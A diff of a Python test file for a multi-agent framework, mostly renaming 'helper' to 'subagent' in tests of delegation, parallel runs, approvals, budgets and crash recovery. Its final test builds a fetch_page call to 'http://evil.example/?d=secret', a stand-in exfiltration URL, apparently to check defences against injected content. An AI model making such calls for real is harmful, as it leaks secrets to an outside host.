@@ -28,10 +28,10 @@ ADDED: dict[str, Any] = {"tools": ("+delegate",)}
 
 
 def task_in(messages: list[BaseMessage]) -> str:
-    """Return the first line of what a helper was asked; empty for the agent that a person runs."""
+    """Return the first line of a subagent's task; empty for the agent that a person runs."""
     asked = next(own_text(message) for message in messages if message.type == "human")
     head, _, rest = asked.partition("\n\n")
-    return rest.partition("\n")[0] if head.startswith("You are a helper") else ""
+    return rest.partition("\n")[0] if head.startswith("You are a subagent") else ""
 
 
 def results_in(messages: list[BaseMessage]) -> list[str]:
@@ -39,7 +39,7 @@ def results_in(messages: list[BaseMessage]) -> list[str]:
 
 
 class Brain:
-    """Answers by who asks: a function for each helper's task, and one for the main agent."""
+    """Answers by who asks: a function for each subagent's task, and one for the main agent."""
 
     def __init__(self, **answers: Any) -> None:
         self.answers = answers
@@ -64,8 +64,8 @@ def then_done(first: AIMessage) -> Any:
     """Make the main agent's answers: this reply, then what came of it."""
 
     def answer(messages: list[BaseMessage]) -> AIMessage | str:
-        told = results_in(messages)
-        return "all: " + " ".join(told) if told else first
+        reported = results_in(messages)
+        return "all: " + " ".join(reported) if reported else first
 
     return answer
 
@@ -86,7 +86,7 @@ def writes(name: str) -> Any:
     return answer
 
 
-async def test_a_helper_works_with_a_context_of_its_own_and_hands_back_result_and_files() -> None:
+async def test_a_subagent_works_with_a_context_of_its_own_and_hands_back_result_and_files() -> None:
     brain = Brain(main=then_done(delegating("write")), write=writes("a.txt"))
     ran = await run(build_manus_graph(), brain, policy="auto", sandbox="none")
     (result,) = ran.results()
@@ -95,8 +95,8 @@ async def test_a_helper_works_with_a_context_of_its_own_and_hands_back_result_an
     assert ran.values["status"] == "finished"
     assert brain.asked == ["", "write", "write", ""]
     assert Path("work/a.txt").read_text() == "a.txt\n"  # noqa: ASYNC240
-    helper = ran.model.requests[1]
-    assert "the task" not in "".join(message.text for message in helper)
+    subagent = ran.model.requests[1]
+    assert "the task" not in "".join(message.text for message in subagent)
     assert ran.values["usage"]["model_calls"] == 4
 
 
@@ -128,7 +128,7 @@ def team(monkeypatch: pytest.MonkeyPatch, work: Work) -> list[str]:
     return begun
 
 
-async def test_helpers_of_one_reply_run_at_once_and_each_gets_its_own_result_back(
+async def test_subagents_of_one_reply_run_at_once_and_each_gets_its_own_result_back(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     names, all_begun = ("one", "two", "three", "four"), asyncio.Event()
@@ -153,7 +153,7 @@ async def test_other_calls_of_the_reply_run_before_and_after_in_call_order() -> 
     def log(name: str) -> tuple[str, dict[str, Any]]:
         return ("bash", {"command": f"echo {name} >> log.txt"})
 
-    def helper(name: str) -> Any:
+    def subagent(name: str) -> Any:
         def answer(messages: list[BaseMessage]) -> AIMessage | str:
             return "done" if results_in(messages) else calls(log(name))
 
@@ -166,7 +166,7 @@ async def test_other_calls_of_the_reply_run_before_and_after_in_call_order() -> 
         log("last"),
         prefix="d",
     )
-    brain = Brain(main=then_done(made), one=helper("one"), two=helper("two"))
+    brain = Brain(main=then_done(made), one=subagent("one"), two=subagent("two"))
     ran = await run(build_manus_graph(), brain, policy="auto", sandbox="none")
     lines = Path("work/log.txt").read_text().split()  # noqa: ASYNC240
     assert (lines[0], {*lines[1:3]}, lines[3]) == ("first", {"one", "two"}, "last")
@@ -176,13 +176,17 @@ async def test_other_calls_of_the_reply_run_before_and_after_in_call_order() -> 
 
 def asks(question: str) -> Any:
     def answer(messages: list[BaseMessage]) -> Any:
-        told = results_in(messages)
-        return f"{question} {told[-1]}" if told else calls(("ask_human", {"inquire": question}))
+        reported = results_in(messages)
+        return (
+            f"{question} {reported[-1]}"
+            if reported
+            else calls(("ask_human", {"inquire": question}))
+        )
 
     return answer
 
 
-async def test_questions_of_helpers_name_them_and_each_gets_its_own_answer() -> None:
+async def test_questions_of_subagents_name_them_and_each_gets_its_own_answer() -> None:
     saver = InMemorySaver()
     brain = Brain(main=then_done(delegating("one", "two")), one=asks("which?"), two=asks("when?"))
     await run(build_manus_graph(checkpointer=saver), brain)
@@ -202,7 +206,7 @@ async def test_questions_of_helpers_name_them_and_each_gets_its_own_answer() -> 
     assert brain.asked.count("one") == brain.asked.count("two") == 2
 
 
-async def test_approvals_of_helpers_name_them_and_each_decision_is_for_its_own() -> None:
+async def test_approvals_of_subagents_name_them_and_each_decision_is_for_its_own() -> None:
     saver = InMemorySaver()
     asking: dict[str, Any] = {"policy_rules": ({"tool": "bash", "decision": "ask"},)}
     brain = Brain(
@@ -224,9 +228,7 @@ async def test_approvals_of_helpers_name_them_and_each_decision_is_for_its_own()
     assert not Path("work/b.txt").exists()  # noqa: ASYNC240
 
 
-async def test_a_question_of_a_helpers_helper_names_both_and_is_answered_in_another_process() -> (
-    None
-):
+async def test_a_question_of_a_subagents_subagent_names_both_and_another_process_answers() -> None:
     saver = InMemorySaver()
     brain = Brain(
         main=then_done(delegating("one")), one=then_done(delegating("two")), two=asks("which?")
@@ -243,7 +245,7 @@ async def test_a_question_of_a_helpers_helper_names_both_and_is_answered_in_anot
     assert brain.asked == ["", "one", "two", "two", "one", ""]
 
 
-async def test_after_a_crash_each_helper_goes_on_where_it_was(
+async def test_after_a_crash_each_subagent_goes_on_where_it_was(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     reached, hanging = asyncio.Event(), set[str]()
@@ -274,7 +276,7 @@ async def test_after_a_crash_each_helper_goes_on_where_it_was(
     assert ran.values["status"] == "finished"
 
 
-async def test_a_helper_that_had_ended_when_the_process_died_is_not_asked_again(
+async def test_a_subagent_that_had_ended_when_the_process_died_is_not_asked_again(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     ended, released = threading.Event(), threading.Event()
@@ -298,14 +300,14 @@ async def test_a_helper_that_had_ended_when_the_process_died_is_not_asked_again(
     assert brain.asked == ["", "one", ""]
 
 
-async def test_a_helper_of_a_helper_cannot_delegate() -> None:
+async def test_a_subagent_of_a_subagent_cannot_delegate() -> None:
     def passes_on(task: str) -> Any:
         return then_done(delegating(task))
 
     brain = Brain(main=passes_on("one"), one=passes_on("two"), two=passes_on("three"))
     ran = await run(build_manus_graph(), brain)
     (result,) = ran.results()
-    assert "You are the helper of a helper, which cannot delegate further." in result
+    assert "You are the subagent of a subagent, which cannot delegate further." in result
     assert "three" not in brain.asked
     assert ran.values["usage"]["model_calls"] == len(brain.asked) == 6
 
@@ -330,7 +332,7 @@ async def test_a_wrong_call_says_what_is_wrong(args: dict[str, Any], says: str) 
     assert brain.asked == ["", ""]
 
 
-async def test_a_helper_that_fails_is_an_observation() -> None:
+async def test_a_subagent_that_fails_is_an_observation() -> None:
     give_up = calls(("terminate", {"status": "failure"}), text="There is no such file.")
     brain = Brain(main=then_done(delegating("one", "two")), one=give_up, two="well done")
     ran = await run(build_manus_graph(), brain)
@@ -339,7 +341,7 @@ async def test_a_helper_that_fails_is_an_observation() -> None:
     assert ran.values["status"] == "finished"
 
 
-async def test_a_helper_that_raises_or_does_not_end_is_an_observation(
+async def test_a_subagent_that_raises_or_does_not_end_is_an_observation(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     async def work(name: str) -> str:
@@ -381,7 +383,9 @@ LIMITS: list[tuple[str, dict[str, Any]]] = [
 
 
 @pytest.mark.parametrize(("reason", "limit"), LIMITS)
-async def test_helpers_spend_from_the_budget_of_the_run(reason: str, limit: dict[str, Any]) -> None:
+async def test_subagents_spend_from_the_budget_of_the_run(
+    reason: str, limit: dict[str, Any]
+) -> None:
     brain = Brain(main=then_done(delegating("one", "two")), one=endless, two=endless)
     model = Priced(*[brain.answer] * 200, usage=(1000, 100))
     saver = InMemorySaver()
@@ -390,18 +394,18 @@ async def test_helpers_spend_from_the_budget_of_the_run(reason: str, limit: dict
             build_manus_graph(checkpointer=saver), model=model, config=CONFIG, **ADDED, **limit
         )
     assert all(
-        f"A limit of the whole run ({reason}) stopped the helper" in r for r in ran.results()
+        f"A limit of the whole run ({reason}) stopped the subagent" in r for r in ran.results()
     )
     usage = ran.values["usage"]
     assert usage["model_calls"] == len(brain.asked)
-    most = {**limit, "max_steps": limit.get("max_steps", 100) + 1}  # its closing turn
+    most = {**limit, "max_steps": limit.get("max_steps", 100) + 1}  # its final summary
     assert usage["model_calls"] <= most["max_steps"]
     assert usage["input_tokens"] + usage["output_tokens"] <= most.get("max_total_tokens", 1e9)
     assert usage["cost_usd"] <= most.get("max_cost_usd", 1e9)
     assert {"one", "two"} & {*brain.asked}, "one may spend all before the other begins"
 
 
-async def test_a_helper_that_a_limit_stopped_tells_what_it_said_and_did_last() -> None:
+async def test_a_subagent_that_a_limit_stopped_tells_what_it_said_and_did_last() -> None:
     def works(messages: list[BaseMessage]) -> Any:
         number = len(results_in(messages))
         said = "The first two parts are done." if number == 2 else ""
@@ -410,25 +414,25 @@ async def test_a_helper_that_a_limit_stopped_tells_what_it_said_and_did_last() -
 
     brain = Brain(main=then_done(delegating("one")), one=works)
     ran = await run(build_manus_graph(), brain, max_steps=8, sandbox="none")
-    told = ran.results()[0]
-    assert told.count("The first two parts are done.") == 1
+    reported = ran.results()[0]
+    assert reported.count("The first two parts are done.") == 1
     made = brain.asked.count("one")
-    assert f"It made {made} calls, the last ones:" in told
-    assert told.count("\n- bash: ") == 5
-    assert "- bash: false (failed)" in told
-    assert "xxx..." in told
+    assert f"It made {made} calls, the last ones:" in reported
+    assert reported.count("\n- bash: ") == 5
+    assert "- bash: false (failed)" in reported
+    assert "xxx..." in reported
 
 
 def test_of_a_call_that_did_not_end_it_is_told() -> None:
     messages = [HumanMessage("wait"), calls(("bash", {"command": "sleep\n100"}), text="I wait.")]
-    told = delegate_module.unfinished_work(messages, "It did not end within 1 s.")
-    assert told == (
+    reported = delegate_module.unfinished_work(messages, "It did not end within 1 s.")
+    assert reported == (
         "It said last: I wait.\nIt made 1 calls, the last ones:\n- bash: sleep 100 (no end)"
     )
     assert delegate_module.unfinished_work([HumanMessage("wait")], "") == ""
 
 
-async def test_a_helper_is_bounded_by_its_limits_not_by_those_of_langchain() -> None:
+async def test_a_subagent_is_bounded_by_its_limits_not_by_those_of_langchain() -> None:
     def counts(messages: list[BaseMessage]) -> Any:
         return "ten calls" if len(results_in(messages)) == 10 else endless(messages)
 
@@ -456,15 +460,15 @@ async def test_without_the_option_nothing_of_it_is_sent() -> None:
     assert "delegate" not in ran.model.tool_names(0)
 
 
-async def test_links_that_helpers_open_side_by_side_count_together(unused_tcp_port: int) -> None:
+async def test_links_that_subagents_open_side_by_side_count_together(unused_tcp_port: int) -> None:
     port = unused_tcp_port  # whose pages cannot be opened: that counts as well
     urls = [f"http://127.0.0.1:{port}/{number}" for number in range(MOST_OF_SITE)]
 
     def opens(messages: list[BaseMessage]) -> Any:
-        told = results_in(messages)
-        if not told:
+        reported = results_in(messages)
+        if not reported:
             return calls(("bash", {"command": f"echo {' '.join(urls)}"}))
-        return calls(("crawl4ai", {"urls": urls}), prefix="c") if len(told) == 1 else "done"
+        return calls(("crawl4ai", {"urls": urls}), prefix="c") if len(reported) == 1 else "done"
 
     graph = build_manus_graph(checkpointer=InMemorySaver())
     brain = Brain(
@@ -477,7 +481,7 @@ async def test_links_that_helpers_open_side_by_side_count_together(unused_tcp_po
 
 
 @pytest.mark.parametrize("kind", ["quote", "picture"])
-async def test_a_helper_is_armed_by_what_its_agent_was_shown(kind: str) -> None:
+async def test_a_subagent_is_armed_by_what_its_agent_was_shown(kind: str) -> None:
     url = "http://evil.example/?d=secret"
     opens = calls(("fetch_page", {"url": url}))
     graph = build_manus_graph(checkpointer=InMemorySaver())
